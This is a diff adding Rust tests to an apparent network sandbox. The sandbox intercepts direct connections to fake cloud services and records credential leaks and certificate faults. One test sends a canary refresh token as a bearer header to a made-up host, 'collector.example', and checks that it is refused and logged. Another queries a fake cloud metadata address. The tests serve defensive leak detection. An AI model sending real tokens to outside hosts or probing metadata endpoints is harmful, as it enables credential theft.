@@ -802,3 +802,166 @@ async fn flawed_certificates_are_refused_by_verifying_clients_and_marked_when_ac
         .unwrap();
     assert_eq!(ok.status(), 200);
 }
+
+/// A client that ignores proxies and resolves `names` to `addr`, as a program in the sandbox's
+/// network does (there every name and address leads to the adopted listeners).
+fn straight_to(w: &World, addr: std::net::SocketAddr, names: &[&str]) -> reqwest::Client {
+    let pem = std::fs::read(&w.ca_file).unwrap();
+    let mut b = reqwest::Client::builder()
+        .no_proxy()
+        .tls_certs_only([reqwest::Certificate::from_pem(&pem).unwrap()]);
+    for n in names {
+        b = b.resolve(n, addr);
+    }
+    b.build().unwrap()
+}
+
+#[tokio::test]
+async fn adopted_listeners_serve_direct_connections_by_sni_and_host_labelled_and_recorded() {
+    use mock_kit::Adopted;
+    let w = world().await;
+    let (token, fingerprint) = w
+        .secrets
+        .register(
+            mock_kit::SecretKind::AcrRefreshToken,
+            "contosoacr.azurecr.io",
+            "canary-refresh-token-0123456789",
+        )
+        .unwrap();
+    let tls = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let plain = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let (tls_addr, plain_addr) = (tls.local_addr().unwrap(), plain.local_addr().unwrap());
+    let gateway = w.door.gateway();
+    assert_eq!(gateway.loopback()[0], (w.door.proxy_addr(), Adopted::Proxy));
+    assert!(
+        gateway
+            .loopback()
+            .iter()
+            .any(|(_, a)| *a == Adopted::Site("test-acr".into())),
+        "{:?}",
+        gateway.loopback()
+    );
+    let adoption = gateway
+        .adopt(
+            vec![(tls, Adopted::AnyTls), (plain, Adopted::AnyPlain)],
+            Some("iut/shard-a".into()),
+        )
+        .unwrap();
+
+    // TLS to a fake's name reaches the fake, by SNI, with a certificate for that name.
+    let http = straight_to(
+        &w,
+        tls_addr,
+        &["contosoacr.azurecr.io", "collector.example"],
+    );
+    let resp = http
+        .get("https://contosoacr.azurecr.io/v2/")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    let body: Value = resp.json().await.unwrap();
+    assert_eq!(body["site"], "test-acr");
+    assert_eq!(body["label"], "iut/shard-a");
+
+    // TLS to a made-up host with a secret in a header: refused, recorded with the secret.
+    let resp = http
+        .post("https://collector.example/v1/events")
+        .bearer_auth(token.expose())
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 502);
+    assert_eq!(resp.headers()["x-credsim-refused"], "unknown-host");
+
+    // Plain HTTP to IMDS's address reaches IMDS by `Host`.
+    let plain_http = straight_to(&w, plain_addr, &[]);
+    let resp = plain_http
+        .get(format!("http://{plain_addr}/metadata/instance"))
+        .header("host", "169.254.169.254")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 200);
+    assert_eq!(resp.json::<Value>().await.unwrap()["site"], "test-imds");
+
+    let record = w.door.egress().snapshot();
+    assert_eq!(record.len(), 3, "{record:#?}");
+    assert!(record.iter().all(|r| r.via == Via::Intercepted));
+    assert!(
+        record
+            .iter()
+            .all(|r| r.client.label.as_deref() == Some("iut/shard-a"))
+    );
+    assert_eq!(record[1].host, "collector.example");
+    assert_eq!(record[1].port, tls_addr.port());
+    assert_eq!(
+        record[1].outcome,
+        Outcome::Refused {
+            reason: Refusal::UnknownHost
+        }
+    );
+    assert!(record[1].carried(&fingerprint));
+    assert_eq!(record[2].host, "169.254.169.254");
+
+    // Dropping the adoption stops its listeners.
+    drop(adoption);
+    let mut refused = false;
+    for _ in 0..50 {
+        if tokio::net::TcpStream::connect(tls_addr).await.is_err() {
+            refused = true;
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    assert!(refused, "the adopted listener still accepts");
+}
+
+#[tokio::test]
+async fn certificate_faults_apply_to_direct_connections_and_a_refused_handshake_is_recorded() {
+    use mock_kit::Adopted;
+    use mock_kit::fault::{CertificateFlaw, FaultMatch};
+    let w = world().await;
+    let tls = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = tls.local_addr().unwrap();
+    let _adoption = w
+        .door
+        .gateway()
+        .adopt(vec![(tls, Adopted::AnyTls)], Some("iut/shard-a".into()))
+        .unwrap();
+    w.door.faults().inject(FaultRule {
+        matches: FaultMatch {
+            host: Some("login.microsoftonline.com".into()),
+            client: Some("iut/".into()),
+            ..FaultMatch::default()
+        },
+        action: FaultAction::BadCertificate {
+            flaw: CertificateFlaw::WrongHost,
+        },
+        remaining: Some(1),
+    });
+    let http = straight_to(&w, addr, &["login.microsoftonline.com"]);
+    let err = http
+        .get("https://login.microsoftonline.com/x")
+        .send()
+        .await
+        .unwrap_err();
+    assert!(err.is_connect() || err.is_request(), "{err:?}");
+    let rec = w
+        .door
+        .egress()
+        .wait_for(|r| r.method == "CONNECT", Duration::from_secs(5))
+        .await
+        .expect("the refused handshake is recorded");
+    assert_eq!(rec.via, Via::Intercepted);
+    assert_eq!(rec.host, "login.microsoftonline.com");
+    assert_eq!(rec.certificate, Some(CertificateFlaw::WrongHost));
+    assert!(rec.secrets.is_empty());
+    // The fault is spent: the next connection gets the right certificate.
+    let ok = http
+        .get("https://login.microsoftonline.com/x")
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(ok.status(), 200);
+}
